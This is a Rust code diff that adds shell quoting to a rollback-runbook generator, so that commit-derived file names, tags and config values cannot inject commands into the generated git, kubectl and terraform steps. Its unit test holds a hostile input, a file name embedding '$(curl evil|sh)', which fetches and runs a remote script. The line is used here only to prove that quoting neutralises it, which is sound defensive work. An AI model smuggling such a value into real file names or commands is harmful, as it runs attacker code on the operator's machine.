@@ -159,9 +159,21 @@ pub struct RollbackData {
     pub verify: Verify,
 }
 
+/// A value as one word of a POSIX shell command: as is when it is plainly
+/// safe, else single-quoted. File names come from commits, and the runbook
+/// is meant to be pasted into a shell.
+pub fn sh(value: &str) -> String {
+    let plain = !value.is_empty()
+        && value.chars().all(|c| {
+            c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '/' | '-' | ':' | '@' | '%' | '+' | '=' | ',')
+        });
+    if plain { value.to_string() } else { format!("'{}'", value.replace('\'', "'\\''")) }
+}
+
+/// The configured value (quoted for the shell), or a visible `<placeholder>`.
 fn placeholder_or(value: &Option<String>, name: &str, used: &mut bool) -> String {
     match value {
-        Some(v) => v.clone(),
+        Some(v) => sh(v),
         None => {
             *used = true;
             format!("<{name}>")
@@ -265,7 +277,10 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
         date: t.date.clone(),
         url: links.tag(&t.name),
     });
-    let channel = release.version.split_once('-').map(|(_, pre)| pre.split('.').next().unwrap_or(pre).to_string());
+    let channel = semver::Version::parse(&release.version)
+        .ok()
+        .filter(|v| !v.pre.is_empty())
+        .map(|v| v.pre.as_str().split('.').next().unwrap_or_default().to_string());
     let has_merges = release.commits.iter().any(|c| c.parents.len() > 1);
     let prev_tag = previous.as_ref().map(|p| p.tag.clone());
     let prev_version = previous.as_ref().map(|p| p.version.clone());
@@ -274,11 +289,12 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
     let mut redeploy = Vec::new();
     let mut redeploy_notes = Vec::new();
     if let Some(prev) = &prev_tag {
-        let repo_flag = |flag: &str| project.as_ref().map(|p| format!(" {flag} {p}")).unwrap_or_default();
+        let repo_flag = |flag: &str| project.as_ref().map(|p| format!(" {flag} {}", sh(p))).unwrap_or_default();
+        let prev_word = sh(prev);
         match repository.forge {
             ForgeKind::Github => {
                 let workflow = placeholder_or(&config.workflow, "deploy-workflow.yml", &mut placeholders);
-                redeploy.push(format!("gh workflow run {workflow} --ref {prev}{}", repo_flag("--repo")));
+                redeploy.push(format!("gh workflow run {workflow} --ref {prev_word}{}", repo_flag("--repo")));
                 redeploy_notes.push(format!(
                     "The workflow needs a `workflow_dispatch` trigger. To re-run the run that deployed {prev} instead: \
                      `gh run list --branch {prev}{}` and `gh run rerun <run-id>{}`.",
@@ -287,7 +303,7 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
                 ));
             }
             ForgeKind::Gitlab => {
-                redeploy.push(format!("glab ci run --branch {prev}{}", repo_flag("--repo")));
+                redeploy.push(format!("glab ci run --branch {prev_word}{}", repo_flag("--repo")));
                 redeploy_notes.push(format!(
                     "This starts a new pipeline for the tag {prev}; run its deploy job if it is manual. To retry the \
                      original pipeline instead: `glab ci list --ref {prev}{}` and `glab ci retry <pipeline-id>`.",
@@ -306,17 +322,21 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
         let tag = &release.tag;
         revert_commands.push("git fetch origin --tags".to_string());
         if has_merges {
-            revert_commands.push(format!("git revert --no-commit -m 1 $(git rev-list --first-parent {prev}..{tag})"));
+            revert_commands.push(format!(
+                "git revert --no-commit -m 1 $(git rev-list --first-parent {})",
+                sh(&format!("{prev}..{tag}"))
+            ));
         } else {
-            revert_commands.push(format!("git revert --no-commit {prev}..{tag}"));
+            revert_commands.push(format!("git revert --no-commit {}", sh(&format!("{prev}..{tag}"))));
         }
-        revert_commands.push(format!("git commit -m \"revert: roll back {tag}\""));
+        revert_commands.push(format!("git commit -m {}", sh(&format!("revert: roll back {tag}"))));
         revert_commands.push("git push origin HEAD".to_string());
     }
 
     // Infrastructure.
     let worktree = prev_tag.as_ref().map(|p| format!("../rollback-{p}"));
-    let namespace = config.namespace.clone().unwrap_or_else(|| "<namespace>".to_string());
+    let under = |dir: &str, path: &str| sh(&format!("{dir}/{path}"));
+    let namespace = config.namespace.as_deref().map_or_else(|| "<namespace>".to_string(), sh);
     let namespace_placeholder = config.namespace.is_none();
     let files_of = |class: Class| by_class.get(&class).cloned().unwrap_or_default();
     let mut needs_checkout = false;
@@ -352,7 +372,7 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
                     let added: Vec<String> = files
                         .iter()
                         .filter(|f| f.change == "added")
-                        .map(|f| format!("kubectl delete -n {namespace} -f {}", f.path))
+                        .map(|f| format!("kubectl delete -n {namespace} -f {}", sh(&f.path)))
                         .collect();
                     if !added.is_empty() {
                         blocks.push(Block {
@@ -367,7 +387,7 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
                             intro: format!("Apply the manifests as they were at {prev}:"),
                             commands: parent_dirs(&existing)
                                 .iter()
-                                .map(|dir| format!("kubectl apply -n {namespace} -f {wt}/{dir}"))
+                                .map(|dir| format!("kubectl apply -n {namespace} -f {}", under(wt, dir)))
                                 .collect(),
                         });
                     }
@@ -406,14 +426,21 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
                         commands: dirs
                             .iter()
                             .map(|dir| {
-                                format!("(cd {wt}/{dir} && terraform init && terraform plan -out=rollback.tfplan && terraform apply rollback.tfplan)")
+                                format!(
+                                    "(cd {} && terraform init && terraform plan -out=rollback.tfplan && terraform apply rollback.tfplan)",
+                                    under(wt, dir)
+                                )
                             })
                             .collect(),
                     });
                 }
             }
             Class::Docker => {
-                let image = placeholder_or(&config.image, "image", placeholders);
+                // Unquoted here: the whole `*=<image>:<version>` argument is quoted below.
+                let image = config.image.clone().unwrap_or_else(|| {
+                    *placeholders = true;
+                    "<image>".to_string()
+                });
                 let version = prev_version.clone().unwrap_or_else(|| "<previous-version>".to_string());
                 let why = format!(
                     "This release changed how the container image is built. Redeploy the image built for the previous \
@@ -424,7 +451,8 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
                     blocks.push(Block {
                         intro: format!("{why}:"),
                         commands: vec![format!(
-                            "kubectl set image deployment/{d} '*={image}:{version}' -n {namespace}"
+                            "kubectl set image deployment/{d} {} -n {namespace}",
+                            sh(&format!("*={image}:{version}"))
                         )],
                     });
                 } else {
@@ -448,7 +476,7 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
     let docker = infra(Class::Docker, &mut placeholders);
     let ci = infra(Class::Ci, &mut placeholders);
     let checkout = match (&worktree, &prev_tag) {
-        (Some(wt), Some(prev)) if needs_checkout => vec![format!("git worktree add {wt} {prev}")],
+        (Some(wt), Some(prev)) if needs_checkout => vec![format!("git worktree add {} {}", sh(wt), sh(prev))],
         _ => Vec::new(),
     };
     let infrastructure: Vec<Infra> =
@@ -474,7 +502,7 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
 
     // Verification.
     let mut commands = config.verify.clone();
-    commands.extend(config.health_urls.iter().map(|u| format!("curl -fsS {u}")));
+    commands.extend(config.health_urls.iter().map(|u| format!("curl -fsS {}", sh(u))));
     let checklist = if commands.is_empty() && config.dashboards.is_empty() {
         vec![
             "The service's health endpoint answers 200 (set `[rollback] health-urls` to list them here).".to_string(),
@@ -489,7 +517,8 @@ pub fn build(release: &Release, repository: &Repository, config: &Config, classi
     if let Some(v) = &prev_version {
         match (&config.deployment, kubernetes.is_some() || docker.is_some() || config.deployment.is_some()) {
             (Some(d), _) => confirm.push(format!(
-                "kubectl get deployment/{d} -n {namespace} -o jsonpath='{{.spec.template.spec.containers[*].image}}'  # expect {v}"
+                "kubectl get deployment/{} -n {namespace} -o jsonpath='{{.spec.template.spec.containers[*].image}}'  # expect {v}",
+                sh(d)
             )),
             (None, true) => {
                 placeholders = true;
@@ -599,4 +628,18 @@ fn risk(
         }
     };
     Risk { level: "caution", label: "Caution", summary: format!("{tag} {joined}; follow the steps in order.") }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::sh;
+
+    #[test]
+    fn shell_words_are_quoted_when_needed() {
+        assert_eq!(sh("deploy/k8s/app.yaml"), "deploy/k8s/app.yaml");
+        assert_eq!(sh("k8s/my app.yaml"), "'k8s/my app.yaml'");
+        assert_eq!(sh("k8s/$(curl evil|sh).yaml"), "'k8s/$(curl evil|sh).yaml'");
+        assert_eq!(sh("it's"), "'it'\\''s'");
+        assert_eq!(sh("*=img:1.0"), "'*=img:1.0'");
+    }
 }
